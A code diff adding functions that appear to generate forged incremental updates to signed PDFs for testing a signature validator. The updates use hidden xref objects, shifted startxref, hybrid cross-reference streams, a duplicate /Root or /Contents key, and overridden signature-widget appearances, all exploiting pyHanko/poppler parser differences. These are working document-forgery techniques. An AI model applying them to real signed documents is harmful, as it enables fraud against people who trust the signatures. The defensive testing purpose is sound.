@@ -438,3 +438,229 @@ def duplicate_sig_dict(pdf: bytes) -> bytes:
 
 def deflate(data: bytes) -> bytes:
     return zlib.compress(data)
+
+
+# --- parser differentials and cross-reference tricks (pdf-insecurity.org, "PDF differential") -----------
+
+RED_PAGE = b"1 0 0 rg 0 0 600 900 re f"  # what a forged page draws: all red, easy to see in a rendering
+
+
+def red_stream() -> bytes:
+    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(RED_PAGE), RED_PAGE)
+
+
+def _last_trailer(pdf: bytes) -> bytes:
+    trailer = pdf[pdf.rindex(b"trailer") : pdf.rindex(b"startxref")]
+    return re.sub(rb"/Prev \d+", b"", trailer).rstrip().rstrip(b">")
+
+
+def startxrefs(pdf: bytes) -> list[int]:
+    return [int(x) for x in re.findall(rb"startxref\s+(\d+)", pdf)]
+
+
+def raw_xref_update(
+    pdf: bytes,
+    objects: dict[int, bytes],
+    *,
+    listed: bool = True,
+    prev: int | None = None,
+    extra_trailer: bytes = b"",
+    startxref_shift: int = 0,
+    copy_xref_at: int | None = None,
+    generation: int = 0,
+) -> bytes:
+    """An update written by hand. ``listed`` False leaves the new objects out of its xref (hidden objects);
+    ``prev`` sets /Prev (default: the last xref); ``startxref_shift`` makes startxref miss the xref by that
+    many bytes; ``copy_xref_at`` repeats the entries of the xref table at that offset."""
+    prev = startxrefs(pdf)[-1] if prev is None else prev
+    offsets: dict[int, int] = {}
+    if copy_xref_at is not None:
+        current = 0
+        for line in pdf[copy_xref_at : pdf.index(b"trailer", copy_xref_at)].split(b"\n")[1:]:
+            parts = line.split()
+            if len(parts) == 2:
+                current = int(parts[0])
+            elif len(parts) == 3:
+                if parts[2] == b"n":
+                    offsets[current] = int(parts[0])
+                current += 1
+    body = bytearray(b"\n")
+    for number, text in sorted(objects.items()):
+        if listed:
+            offsets[number] = len(pdf) + len(body)
+        body += b"%d %d obj\n%s\nendobj\n" % (number, generation, text)
+    xref_at = len(pdf) + len(body)
+    body += b"xref\n" if offsets else b"xref\n0 0\n"
+    for number in sorted(offsets):
+        gen = generation if number in objects else 0
+        body += b"%d 1\n%010d %05d n \n" % (number, offsets[number], gen)
+    body += _last_trailer(pdf) + extra_trailer + b" /Prev %d >>\n" % prev
+    body += b"startxref\n%d\n%%%%EOF\n" % (xref_at + startxref_shift)
+    return pdf + bytes(body)
+
+
+def xref_stream_update(
+    pdf: bytes, objects: dict[int, bytes], *, in_object_stream: bool = True, hybrid: bool = False
+) -> bytes:
+    """An update with a cross-reference stream (PDF 1.5), its new objects compressed in an object stream or
+    written plainly; ``hybrid`` adds a classic xref table whose trailer names the stream by /XRefStm (a
+    hybrid-reference file, as readers for PDF 1.4 and 1.5 each see a part of it)."""
+    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
+    trailer = reader.trailer_view
+    root, info = trailer.raw_get("/Root"), trailer.raw_get("/Info")
+    ids = trailer["/ID"]
+    size = int(trailer["/Size"])
+    prev = startxrefs(pdf)[-1]
+    body = bytearray(b"\n")
+    entries: dict[int, tuple[int, int, int]] = {}
+    objstm, xref_number = size, size + 1
+    if in_object_stream:
+        header, payload = b"", b""
+        for index, (number, text) in enumerate(sorted(objects.items())):
+            header += b"%d %d " % (number, len(payload))
+            payload += text + b"\n"
+            entries[number] = (2, objstm, index)
+        data = zlib.compress(header + payload)
+        entries[objstm] = (1, len(pdf) + len(body), 0)
+        body += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
+            objstm,
+            len(objects),
+            len(header),
+            len(data),
+        )
+        body += data + b"\nendstream\nendobj\n"
+    else:
+        for number, text in sorted(objects.items()):
+            entries[number] = (1, len(pdf) + len(body), 0)
+            body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
+    xref_at = len(pdf) + len(body)
+    entries[xref_number] = (1, xref_at, 0)
+    rows = b"".join(
+        bytes([kind]) + a.to_bytes(4, "big") + b.to_bytes(2, "big")
+        for _n, (kind, a, b) in sorted(entries.items())
+    )
+    index = b" ".join(b"%d 1" % number for number in sorted(entries))
+    common = b"/Root %d 0 R /Info %d 0 R /ID [<%s> <%s>] /Size %d" % (
+        root.idnum,
+        info.idnum,
+        ids[0].original_bytes.hex().encode(),
+        ids[1].original_bytes.hex().encode(),
+        size + 2,
+    )
+    prev_entry = b"" if hybrid else b" /Prev %d" % prev
+    body += b"%d 0 obj\n<< /Type /XRef /W [1 4 2] /Index [%s] %s%s /Length %d >>\nstream\n" % (
+        xref_number,
+        index,
+        common,
+        prev_entry,
+        len(rows),
+    )
+    body += rows + b"\nendstream\nendobj\n"
+    if hybrid:
+        table_at = len(pdf) + len(body)
+        body += b"xref\n0 0\ntrailer\n<< %s /Prev %d /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n" % (
+            common,
+            prev,
+            xref_at,
+            table_at,
+        )
+    else:
+        body += b"startxref\n%d\n%%%%EOF\n" % xref_at
+    return pdf + bytes(body)
+
+
+def object_text(pdf: bytes, number: int) -> bytes:
+    """The body of object ``number`` as the signed file writes it (between "N 0 obj" and "endobj")."""
+    start = pdf.index(b"\n%d 0 obj" % number) + 1
+    return pdf[start : pdf.index(b"endobj", start)].split(b"obj", 1)[1].strip()
+
+
+def page_ref(pdf: bytes, index: int) -> generic.IndirectObject:
+    return PdfFileReader(io.BytesIO(pdf), strict=False).root["/Pages"]["/Kids"].raw_get(index)
+
+
+def second_root(pdf: bytes) -> bytes:
+    """A second /Root in the update's trailer (a key written twice), naming a catalog whose one page draws
+    the forged content: pyHanko keeps the first /Root, poppler the last."""
+    page = page_ref(pdf, 0).get_object()
+    size = int(PdfFileReader(io.BytesIO(pdf), strict=False).trailer_view["/Size"])
+    content, new_page, pages, catalog = size, size + 1, size + 2, size + 3
+    forged = generic.DictionaryObject({k: page.raw_get(k) for k in page if k != "/Parent"})
+    forged[generic.NameObject("/Contents")] = generic.IndirectObject(content, 0, None)
+    forged[generic.NameObject("/Parent")] = generic.IndirectObject(pages, 0, None)
+    objects = {
+        content: red_stream(),
+        new_page: _serialise(forged),
+        pages: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % new_page,
+        catalog: b"<< /Type /Catalog /Pages %d 0 R >>" % pages,
+    }
+    return raw_xref_update(pdf, objects, extra_trailer=b" /Root %d 0 R /Size %d" % (catalog, size + 4))
+
+
+def duplicate_contents_key(pdf: bytes) -> bytes:
+    """Page 1 rewritten with a second /Contents key after its own (the same object, the same first value):
+    pyHanko reads the page unchanged, poppler draws the second content stream."""
+    ref = page_ref(pdf, 0)
+    text = object_text(pdf, ref.idnum)
+    contents = (
+        PdfFileReader(io.BytesIO(pdf), strict=False)
+        .root["/Pages"]["/Kids"][0]
+        .get_object()
+        .raw_get("/Contents")
+    )
+    size = int(PdfFileReader(io.BytesIO(pdf), strict=False).trailer_view["/Size"])
+    own = b"/Contents %d 0 R" % contents.idnum
+    assert own in text
+    doubled = text.replace(own, own + b" /Contents %d 0 R" % size)
+    return raw_xref_update(
+        pdf, {ref.idnum: doubled, size: red_stream()}, extra_trailer=b" /Size %d" % (size + 1)
+    )
+
+
+def visible_signature_field(writer, name: str, index: int = 0) -> None:
+    """A new signature field whose widget's appearance draws the forged text over page ``index`` (the
+    Evil Annotation / Sneaky Signature attacks of Mainka et al., S&P 2021, on certified documents)."""
+    from pyhanko.sign import fields
+
+    fields.append_signature_field(writer, fields.SigFieldSpec(name, on_page=index, box=(60, 480, 460, 560)))
+    appearance = generic.StreamObject(
+        {
+            generic.NameObject("/Type"): generic.NameObject("/XObject"),
+            generic.NameObject("/Subtype"): generic.NameObject("/Form"),
+            generic.NameObject("/BBox"): generic.ArrayObject(
+                [generic.NumberObject(v) for v in (0, 0, 400, 80)]
+            ),
+            generic.NameObject("/Resources"): generic.DictionaryObject(
+                {
+                    generic.NameObject("/Font"): generic.DictionaryObject(
+                        {generic.NameObject("/Helv"): writer.add_object(_helvetica(writer))}
+                    )
+                }
+            ),
+        },
+        stream_data=b"1 1 0.6 rg 0 0 400 80 re f " + FORGED_TEXT.replace(b"80 500", b"10 20"),
+    )
+    for ref in writer.root["/AcroForm"]["/Fields"]:
+        field = ref.get_object()
+        if field.get("/T") == name:
+            field[generic.NameObject("/AP")] = generic.DictionaryObject(
+                {generic.NameObject("/N"): writer.add_object(appearance)}
+            )
+            writer.update_container(field)
+
+
+def override_signature_appearance(writer) -> None:
+    """The kiosk's signature widget's appearance stream overridden in place (same object number)."""
+    form = writer.root["/AcroForm"]
+    field = next(f.get_object() for f in form["/Fields"] if f.get_object().get("/T") == "KioskSeal")
+    ref = field["/AP"].raw_get("/N")
+    writer.objects[(ref.generation, ref.idnum)] = generic.StreamObject(
+        {
+            generic.NameObject("/Type"): generic.NameObject("/XObject"),
+            generic.NameObject("/Subtype"): generic.NameObject("/Form"),
+            generic.NameObject("/BBox"): generic.ArrayObject(
+                [generic.NumberObject(v) for v in (0, 0, 170, 96)]
+            ),
+        },
+        stream_data=b"1 0 0 rg 0 0 170 96 re f",
+    )
